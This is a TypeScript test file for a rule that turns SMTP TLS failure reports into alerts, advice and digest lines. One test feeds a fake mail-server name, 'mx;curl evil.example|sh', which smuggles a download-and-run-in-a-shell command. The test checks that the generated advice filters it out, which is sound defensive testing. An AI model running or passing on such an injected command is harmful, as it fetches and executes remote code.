import { describe, expect, test } from 'vitest';
import { startOfDay } from '../../../src/model/time.ts';
import type { TlsSessions } from '../../../src/model/tls-reports/tls-session.ts';
import { inboundTlsFailures } from '../../../src/rules/inbound-tls-failures/rule.ts';
import { dayByDay, events } from '../day-by-day.ts';
import { givenHistory } from '../given-history.ts';
import { growing, times } from '../growing.ts';

const FIRST_DAY = 20_777;
const plain = {
  organisation: 'Litware Inc.',
  policyDomain: 'contoso.com',
  policyType: 'sts',
  resultType: '',
  mx: '',
} as const;

/** A day of one organisation. */
const reported = (successful: number, failed: number, more: Partial<TlsSessions> = {}): readonly TlsSessions[] => [
  ...(successful > 0 ? [{ ...plain, ...more, counts: 'successful' as const, sessions: successful }] : []),
  ...(failed > 0
    ? [
        { ...plain, ...more, counts: 'failed' as const, sessions: failed, resultType: '', mx: '' },
        {
          ...plain,
          resultType: 'certificate-expired',
          mx: 'mx2.contoso.com',
          ...more,
          counts: 'reason' as const,
          sessions: failed,
        },
      ]
    : []),
];

const history = (...reports: readonly (readonly TlsSessions[] | null)[]) =>
  givenHistory({ firstDay: FIRST_DAY, reports });
const look = (...reports: readonly (readonly TlsSessions[] | null)[]) =>
  dayByDay(inboundTlsFailures, [history(...reports)])[0]?.findings ?? [];
const openedOn = (...reports: readonly (readonly TlsSessions[] | null)[]) =>
  events(dayByDay(inboundTlsFailures, growing({ firstDay: FIRST_DAY, reports })), 'contoso.com');

describe('opens', () => {
  test.for([
    ['where half of many sessions fail', 60, 60],
    ['where all of three fail', 0, 3],
    ['where a tenth of thousands fail', 2700, 300],
  ] as const)('%s', ([, successful, failed]) => {
    expect(look(reported(successful, failed))).toMatchObject([
      { subject: 'contoso.com', stand: 'open', magnitude: failed },
    ]);
  });

  test.for([
    ['1 of 2 sessions', 1, 1],
    ['2 of 2 sessions', 0, 2],
    ['5 of 100, which may well be less than 5 %', 95, 5],
    ['nothing', 400, 0],
  ] as const)('not where %s failed', ([, successful, failed]) => {
    expect(look(reported(successful, failed))).toEqual([]);
  });
});

describe('of several policy types', () => {
  test('the worst one counts alone: the same sessions may stand under both', () => {
    const both = [...reported(58, 2), ...reported(58, 2, { policyType: 'tlsa' })];
    // 4 of 120 would be no more either, and 2 of 60 is too little by itself.
    expect(look(both)).toEqual([]);
    const [found] = look([...reported(60, 60), ...reported(100, 20, { policyType: 'tlsa' })]);
    expect(found).toMatchObject({ numbers: { policyType: 'sts', failed: 60, sessions: 120 } });
  });

  test('each domain has an alert of its own', () => {
    const found = look([...reported(9, 40), ...reported(9, 41, { policyDomain: 'fabrikam.com' })]);
    expect(found.map(({ subject }) => subject)).toEqual(['contoso.com', 'fabrikam.com']);
  });
});

describe('is over', () => {
  test('when the sessions of the last days succeed', () => {
    const [bad, good] = [reported(50, 50), reported(100, 0)];
    expect(openedOn(good, bad, bad, good, good, good)).toEqual([
      [1, 'opened'],
      [5, 'closed'],
    ]);
  });

  test('not while only others report: who reported failures may have had no mail since', () => {
    const other = reported(500, 0, { organisation: 'Proseware' });
    expect(openedOn(reported(50, 50), other, other, other, other, other)).toEqual([[0, 'opened']]);
  });

  test('not while who reported most of the failures is silent, though others that failed report successes', () => {
    const small = (successful: number, failed: number) => reported(successful, failed, { organisation: 'Proseware' });
    const begin = [...reported(0, 1000), ...small(0, 3)];
    expect(openedOn(begin, ...times(10, small(500, 0)))).toEqual([[0, 'opened']]);
    expect(
      openedOn(begin, small(500, 0), [...small(500, 0), ...reported(1000, 0)], ...times(3, small(500, 0))),
    ).toEqual([
      [0, 'opened'],
      [3, 'closed'],
    ]);
  });

  test('after 14 days without a report of who reported failures, in words of its own', () => {
    const other = reported(500, 0, { organisation: 'Proseware' });
    const steps = dayByDay(
      inboundTlsFailures,
      growing({ firstDay: FIRST_DAY, reports: [reported(50, 50), ...times(20, other)] }),
    );
    expect(events(steps)).toEqual([
      [0, 'opened'],
      [14, 'closed'],
    ]);
    const end = steps[14]?.findings[0];
    expect(end?.reason).toBe('no-report-in-14-days');
    expect(end && inboundTlsFailures.word(end).sentence).toMatch(/^No new data on .* no report in 14 days/);
  });

  test.for([
    ['while other domains are reported', reported(500, 0, { policyDomain: 'fabrikam.com' })],
    ['when nothing is reported', null],
  ] as const)('after 14 days without a report on the domain, %s', ([, rest]) => {
    const seen = (days: number) =>
      givenHistory({
        firstDay: FIRST_DAY,
        reports: [reported(50, 50), ...times(days - 1, rest)],
        now: startOfDay(FIRST_DAY + days),
      });
    const ends = (...days: readonly number[]) => dayByDay(inboundTlsFailures, days.map(seen));
    expect(events(ends(1, 5, 14, 15, 16))).toEqual([
      [0, 'opened'],
      [3, 'closed'],
    ]);
    // Also where nobody looked for two months.
    expect(ends(1, 60)[1]?.findings).toMatchObject([{ stand: 'quiet', reason: 'no-report-in-14-days' }]);
  });
});

describe('an organisation by itself', () => {
  const google = reported(6000, 0, { organisation: 'Google Inc.' });

  test('opens where surely more than half of its sessions fail, however many of others succeed', () => {
    const [found] = look([...google, ...reported(0, 250, { organisation: 'Microsoft' })]);
    expect(found).toMatchObject({ stand: 'open', magnitude: 250, numbers: { failing: 'Microsoft', sessions: 250 } });
    expect(look([...google, ...reported(200, 50)])).toEqual([]);
    expect(look([...google, ...reported(0, 3)])).toEqual([]);
  });

  test('is over when it reports successes', () => {
    const [bad, good] = [reported(0, 250), reported(250, 0)].map((each) => [...google, ...each]);
    expect(openedOn(bad ?? null, bad ?? null, good ?? null, good ?? null, good ?? null)).toEqual([
      [0, 'opened'],
      [4, 'closed'],
    ]);
  });
});

describe('its words', () => {
  const worded = (...reports: readonly (readonly TlsSessions[])[]) => {
    const [found] = look(...reports);
    if (found === undefined) throw new Error('nothing was found');
    return inboundTlsFailures.word(found);
  };

  test('name what failed, where, and what to do', () => {
    const { sentence, advice, drill } = worded(reported(60, 60));
    expect(sentence).toBe(
      'Litware Inc. reports failures: 60 of 120 TLS sessions to contoso.com failed from 2026-11-18 to 2026-11-20 (50%; the threshold is 5%).',
    );
    expect(advice[0]).toMatch(
      /^Renew the certificate of mx2\.contoso\.com.*`openssl s_client .*-connect mx2\.contoso\.com:25/,
    );
    expect(drill.command).toBe('tls-reports 7d domain:contoso.com');
  });

  test.for([
    ['starttls-not-supported', /Switch STARTTLS on at mx2/],
    ['certificate-host-mismatch', /has its name .* correct the MX record/],
    ['certificate-not-trusted', /whole chain/],
    ['validation-failure', /no more detail/],
    ['tlsa-invalid', /Publish a TLSA record/],
    ['dnssec-invalid', /DNSSEC/],
    ['dane-required', /insists on DANE/],
    ['sts-policy-fetch-error', /https:\/\/mta-sts\.contoso\.com\/\.well-known/],
    ['sts-policy-invalid', /max_age/],
    ['sts-webpki-invalid', /web server mta-sts\.contoso\.com/],
    ['something-of-next-year', /Look at mx2\.contoso\.com/],
  ] as const)('advise on %s', ([resultType, text]) => {
    expect(worded(reported(60, 60, { resultType, mx: 'mx2.contoso.com' })).advice[0]).toMatch(text);
  });

  test('say that a report contradicts itself, and that sessions may not fail independently', () => {
    const surplus = { ...plain, counts: 'surplus' as const, sessions: 4 };
    const { facts } = worded([...reported(60, 60), surplus]);
    expect(facts).toContainEqual({
      label: 'Contradiction',
      value: 'details name 4 failed sessions more than the summaries, which count',
    });
    expect(facts.find(({ label }) => label === 'Share at least')?.value).toContain('if sessions fail independently');
    expect(worded(reported(60, 60)).facts.map(({ label }) => label)).not.toContain('Contradiction');
  });

  test('put no name of a stranger into a command that is no host name', () => {
    const { advice } = worded(reported(60, 60, { mx: 'mx;curl evil.example|sh' }));
    expect(advice.join()).not.toContain('curl');
    expect(advice[0]).toContain('-connect MAIL-SERVER:25');
  });
});

describe('the digest', () => {
  const line = (...reports: readonly (readonly TlsSessions[] | null)[]) =>
    inboundTlsFailures.digestLine?.({
      ...{ history: history(...reports), params: inboundTlsFailures.params.parse({}) },
      ...{ open: new Map(), calibration: undefined },
    });

  const lineAt = (days: number) =>
    inboundTlsFailures.digestLine?.({
      history: givenHistory({
        ...{ firstDay: FIRST_DAY, reports: [reported(99, 1)], now: startOfDay(FIRST_DAY + days) },
      }),
      params: inboundTlsFailures.params.parse({}),
      ...{ open: new Map(), calibration: undefined },
    });

  test('says what was reported, each domain and policy alone', () => {
    expect(line([...reported(99, 1), ...reported(100, 0, { policyType: 'tlsa', organisation: 'Proseware' })])).toBe(
      'TLS reports of 2 organisations in the 7 days to 2026-11-20, in sessions: contoso.com (MTA-STS) 1 of 100 failed, contoso.com (DANE) 0 of 100 failed.',
    );
  });

  test.for([
    [8, /^TLS reports of 1 organisation/],
    [9, /^No TLS report covers a day after 2026-11-20\.$/],
    [29, /^No TLS report/],
  ] as const)('%d days after the first day of the last report', ([days, words]) => {
    expect(lineAt(days)).toMatch(words);
  });

  test('says nothing any more four weeks after the last report', () => {
    expect(lineAt(30)).toBe(null);
  });

  test('says nothing where there is no report', () => {
    expect(line(null)).toBe(null);
  });
});
